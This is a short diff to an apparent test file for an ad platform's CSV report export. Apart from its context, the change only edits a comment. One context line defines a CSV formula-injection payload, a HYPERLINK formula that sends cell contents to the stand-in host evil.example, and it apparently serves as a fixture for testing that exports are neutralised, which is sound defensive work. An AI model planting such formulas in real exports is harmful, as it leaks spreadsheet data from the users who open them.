@@ -13,7 +13,7 @@ const HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"Get bonus")';
 const today = new Date().toISOString().slice(0, 10);
 
 /**
- * Issue #13: a publisher's zone alias reaches an advertiser's report export. The alias is
+ * A publisher's zone alias reaches an advertiser's report export. The alias is
  * set through the publisher's API, read back through the advertiser's report by zone, and
  * written by the exports' one CSV writer (the contract's, which the web's Export CSV uses).
  */
